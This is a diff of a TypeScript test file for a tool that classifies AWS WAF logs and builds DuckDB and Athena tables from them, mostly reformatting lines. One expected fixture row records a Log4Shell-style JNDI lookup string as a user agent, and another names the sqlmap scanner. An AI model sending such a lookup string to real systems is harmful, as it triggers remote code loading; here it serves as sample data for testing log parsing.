@@ -6,7 +6,12 @@ import { classifyLogFile } from '../../../shared/sources/classify-log-file.js';
 import type { AthenaLocation } from '../../../shared/sources/log-source-module.js';
 import { wafSource } from '../../../shared/sources/waf-source.js';
 import { duckdbColumns } from '../../support/athena-ddl-columns.js';
-import { type BuiltFolder, buildFolder, externalTableColumns, skippedByName } from '../../support/source-fixtures.js';
+import {
+  type BuiltFolder,
+  buildFolder,
+  externalTableColumns,
+  skippedByName,
+} from '../../support/source-fixtures.js';
 
 const fixtures = fileURLToPath(new URL('../../fixtures/waf/', import.meta.url));
 const wafLog = fileURLToPath(new URL('../../fixtures/waf/shop-prod.jsonl', import.meta.url));
@@ -20,12 +25,22 @@ const location: AthenaLocation = {
 
 describe('recognising WAF logs by content', () => {
   it('reads records that name a web ACL, the deciding rule and the request', async () => {
-    expect(classifyLogFile(await readFile(wafLog, 'utf8'))).toEqual({ kind: 'log', source: 'waf', layout: 'json-lines' });
+    expect(classifyLogFile(await readFile(wafLog, 'utf8'))).toEqual({
+      kind: 'log',
+      source: 'waf',
+      layout: 'json-lines',
+    });
   });
 
   it.each([
-    ['a CloudTrail record about a web ACL', '{"eventVersion":"1.08","eventSource":"wafv2.amazonaws.com","eventName":"UpdateWebACL","requestParameters":{"webaclId":"x"}}'],
-    ['a Resolver query log record', '{"query_timestamp":"2021-02-04T17:51:55Z","query_name":"a.","query_type":"A","rcode":"NOERROR"}'],
+    [
+      'a CloudTrail record about a web ACL',
+      '{"eventVersion":"1.08","eventSource":"wafv2.amazonaws.com","eventName":"UpdateWebACL","requestParameters":{"webaclId":"x"}}',
+    ],
+    [
+      'a Resolver query log record',
+      '{"query_timestamp":"2021-02-04T17:51:55Z","query_name":"a.","query_type":"A","rcode":"NOERROR"}',
+    ],
   ])('does not read %s as WAF', (_name, head) => {
     expect(wafSource.detect(head)).toBeNull();
   });
@@ -69,9 +84,33 @@ describe('the waf table from delivered files', () => {
        FROM waf ORDER BY "timestamp"`,
     );
     expect(rows).toEqual([
-      { action: 'ALLOW', client_ip: '198.51.100.23', request_id: '1-66321a50-0a1b2c3d4e5f60718293a4b5', user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', bad_input_labels: '0', first_rule_group: null, web_acl_count: null },
-      { action: 'BLOCK', client_ip: '203.0.113.77', request_id: '1-66321a55-1b2c3d4e5f60718293a4b5c6', user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', bad_input_labels: '0', first_rule_group: 'AWS#AWSManagedRulesSQLiRuleSet', web_acl_count: null },
-      { action: 'ALLOW', client_ip: '203.0.113.78', request_id: '1-66321a5a-2c3d4e5f60718293a4b5c6d7', user_agent: '${jndi:ldap://203.0.113.78:1389/a}', bad_input_labels: '1', first_rule_group: 'AWS#AWSManagedRulesKnownBadInputsRuleSet', web_acl_count: 'COUNT' },
+      {
+        action: 'ALLOW',
+        client_ip: '198.51.100.23',
+        request_id: '1-66321a50-0a1b2c3d4e5f60718293a4b5',
+        user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
+        bad_input_labels: '0',
+        first_rule_group: null,
+        web_acl_count: null,
+      },
+      {
+        action: 'BLOCK',
+        client_ip: '203.0.113.77',
+        request_id: '1-66321a55-1b2c3d4e5f60718293a4b5c6',
+        user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)',
+        bad_input_labels: '0',
+        first_rule_group: 'AWS#AWSManagedRulesSQLiRuleSet',
+        web_acl_count: null,
+      },
+      {
+        action: 'ALLOW',
+        client_ip: '203.0.113.78',
+        request_id: '1-66321a5a-2c3d4e5f60718293a4b5c6d7',
+        user_agent: `\${jndi:ldap://203.0.113.78:1389/a}`,
+        bad_input_labels: '1',
+        first_rule_group: 'AWS#AWSManagedRulesKnownBadInputsRuleSet',
+        web_acl_count: 'COUNT',
+      },
     ]);
   });
 
@@ -85,12 +124,14 @@ describe('the Athena table', () => {
   it('projects down to the day when the inventory listed the web ACL folders', () => {
     const ddl = wafSource.athenaCreateTable?.('waf_0', { ...location, resourceFolders: ['shop-prod'] }) ?? '';
     expect(ddl).toContain("ROW FORMAT SERDE 'org.openx.data.jsonserde.JsonSerDe'");
-    expect(ddl).toContain('PARTITIONED BY (`delivery_account` string, `delivery_region` string, `delivery_web_acl` string, `delivery_day` string)');
+    expect(ddl).toContain(
+      'PARTITIONED BY (`delivery_account` string, `delivery_region` string, `delivery_web_acl` string, `delivery_day` string)',
+    );
     expect(ddl).toContain("'projection.delivery_region.values'='cloudfront,us-east-1'");
     expect(ddl).toContain("'projection.delivery_web_acl.values'='shop-prod'");
     expect(ddl).toContain("'projection.delivery_day.range'='2024/04/30,2024/05/02'");
     expect(ddl).toContain(
-      "'storage.location.template'='s3://aws-waf-logs-shop/AWSLogs/${delivery_account}/WAFLogs/${delivery_region}/${delivery_web_acl}/${delivery_day}/'",
+      `'storage.location.template'='s3://aws-waf-logs-shop/AWSLogs/\${delivery_account}/WAFLogs/\${delivery_region}/\${delivery_web_acl}/\${delivery_day}/'`,
     );
   });
 
@@ -99,7 +140,7 @@ describe('the Athena table', () => {
     expect(ddl).toContain('PARTITIONED BY (`delivery_account` string, `delivery_region` string)');
     expect(ddl).not.toContain('delivery_day');
     expect(ddl).toContain(
-      "'storage.location.template'='s3://aws-waf-logs-shop/AWSLogs/${delivery_account}/WAFLogs/${delivery_region}/'",
+      `'storage.location.template'='s3://aws-waf-logs-shop/AWSLogs/\${delivery_account}/WAFLogs/\${delivery_region}/'`,
     );
   });
 });
